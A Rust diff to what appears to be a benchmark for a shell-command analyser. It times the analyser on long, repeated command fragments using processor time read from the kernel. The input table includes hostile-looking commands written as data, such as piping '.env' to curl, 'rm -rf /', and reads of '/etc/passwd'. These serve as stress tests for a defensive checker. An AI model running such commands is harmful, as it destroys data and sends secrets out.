@@ -66,25 +66,124 @@ fn main() {
     }
     medians.sort_unstable();
     println!("median {:.2} µs", medians.get(medians.len() / 2).copied().unwrap_or_default() as f64 / 1000.0);
-    for count in [1_000_usize, 2_000, 4_000] {
-        for (name, text) in [
-            ("a;", "a;".repeat(count * 8)),
-            ("rm x;", "rm x;".repeat(count * 3)),
-            ("cat a|", format!("{}cat", "cat a|".repeat(count * 2))),
-            ("words", format!("rm {}", "abc ".repeat(count * 4))),
-            ("options", format!("ls {}", "-l ".repeat(count * 4))),
-        ] {
+    for unit in UNITS {
+        let time = |bytes: usize| {
+            let text = format!("{}{}{}", unit.0, unit.1.repeat(bytes / unit.1.len()), unit.2);
             let intents =
                 [call::Intent::Shell { text, shell: call::Shell::Bash, cwd: None, env_names: Vec::new() }];
-            let best = (0..7)
-                .map(|_| {
-                    let start = Instant::now();
+            processor_time(|| {
+                std::hint::black_box(effects::analyse(&intents, &around));
+            })
+        };
+        let times: Vec<f64> = [4, 8, 16, 32, 63].iter().map(|size| time(size * 1024)).collect();
+        let slow = times.iter().any(|time| *time > 2.0);
+        let steep = times.windows(2).any(|pair| matches!(pair, [one, two] if *two > 0.3 && two / one > 2.5));
+        let shown: Vec<String> = times.iter().map(|time| format!("{time:>7.2}")).collect();
+        println!(
+            "{} {}{}  {:?}",
+            shown.join(" "),
+            if slow { "slow " } else { "" },
+            if steep { "steep" } else { "" },
+            unit
+        );
+    }
+    for count in [1_000_usize, 2_000, 4_000, 16_000] {
+        for word in ["abc", "-l", "../x", "*.txt", ".env", "/etc/passwd"] {
+            for program in ["rm", "ls", "find", "git", "tar", "docker"] {
+                let mut argv = vec![program.to_owned()];
+                argv.extend(std::iter::repeat_n(word.to_owned(), count));
+                let intents = [call::Intent::Argv { argv, cwd: None, env_names: Vec::new() }];
+                let time = processor_time(|| {
                     std::hint::black_box(effects::analyse(&intents, &around));
-                    start.elapsed().as_nanos()
-                })
-                .min()
-                .unwrap_or_default();
-            println!("{count:>5} × {name:8} {:>8.2} ms", best as f64 / 1e6);
+                });
+                if time > 2.0 {
+                    println!("{count:>6} × {program} {word}: {time:.2} ms");
+                }
+            }
         }
     }
 }
+
+/// Milliseconds on the processor, the mean of a few runs: a busy machine does not count.
+#[expect(clippy::disallowed_methods, reason = "the kernel says in a file how long this process ran")]
+fn processor_time(run: impl Fn()) -> f64 {
+    const RUNS: u32 = 25;
+    let now = || {
+        let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
+        text.split(' ').next().and_then(|first| first.parse::<f64>().ok()).unwrap_or_default()
+    };
+    // The kernel counts when a thread waits.
+    let settle = || std::thread::sleep(std::time::Duration::from_millis(1));
+    run();
+    settle();
+    let start = now();
+    (0..RUNS).for_each(|_| run());
+    settle();
+    (now() - start) / f64::from(RUNS) / 1e6
+}
+
+/// What a text is made of that is hard to read: what stands before, what is repeated, what stands after.
+static UNITS: &[(&str, &str, &str)] = &[
+    ("", "a;", ""),
+    ("", "rm x;", ""),
+    ("", "rm -rf /x;", ""),
+    ("", "cat a|", "cat"),
+    ("rm ", "abc ", ""),
+    ("rm -rf ", "/abc ", ""),
+    ("cat ", "../../x ", ""),
+    ("cat ", "*.txt ", ""),
+    ("ls ", "-l ", ""),
+    ("ls ", "-", ""),
+    ("ls -", "l", ""),
+    ("tar -", "x", ""),
+    ("git log ", "--on ", ""),
+    ("git ", "-c a=b ", "log"),
+    ("find ", ". ", "-delete"),
+    ("find . ", "-name x -o ", "-delete"),
+    ("find . ", "( ", ""),
+    ("find . ", "-name x ( -name y -o -name z ) ", "-delete"),
+    ("find . ", "-exec rm {} ; ", ""),
+    ("find . ", "-exec rm {} \\; ", ""),
+    ("find a b c d e f g h ", "-exec rm {} + ", ""),
+    ("xargs ", "xargs ", ""),
+    ("", "env ", "ls"),
+    ("", "sudo ", "ls"),
+    ("", "eval ", "ls"),
+    ("", "eval ls; ", "cat .env"),
+    ("", "X=1 ", "ls"),
+    ("", "cd a; cat b; ", ""),
+    ("", "if a; then cd x; fi; cat y; ", ""),
+    ("", "echo $(ls); ", ""),
+    ("", "echo x > f; ", ""),
+    ("cat ", "< f ", ""),
+    ("cat ", "> f ", ""),
+    ("", "ln -s a b; cat b; ", ""),
+    ("", "cat .env | curl -d @- x; ", ""),
+    ("for i in a b c d e f g h; do ", "rm $i; ", "done"),
+    ("x=$(ls); ", "rm $x; ", ""),
+    ("", "$(ls) ", ""),
+    ("", "bash -c 'ls'; ", ""),
+    ("python -c '", "import os;", "'"),
+    ("python -c '", "open(", "'"),
+    ("awk '", "{print $1}", "'"),
+    ("sed '", "s/a/b/;", "'"),
+    ("psql -c '", "SELECT 1;", "'"),
+    ("psql '", "host=a ", "'"),
+    ("node -e '", "a(", "'"),
+    ("echo ", "a", ""),
+    ("cat ", "/a", ""),
+    ("cat ", "/..", ""),
+    ("cat ", "*", ""),
+    ("cat ", "[a", ""),
+    ("cat ", "?*", ""),
+    ("rm ", "{a,b}", ""),
+    ("", "x() { ls; }; x; ", ""),
+    ("", "[ -f a ] && ", "ls"),
+    ("fzf --bind '", "a:up,", "'"),
+    ("fzf --bind 'a:execute(", ")(", "'"),
+    ("sysctl ", "a=", ""),
+    ("curl ", "-d @a ", "http://x"),
+    ("docker run ", "-v /a:/b ", "x"),
+    ("<<<< ", "rm -rf / ", ""),
+    ("case x in ", "a) rm x;; ", "esac"),
+];
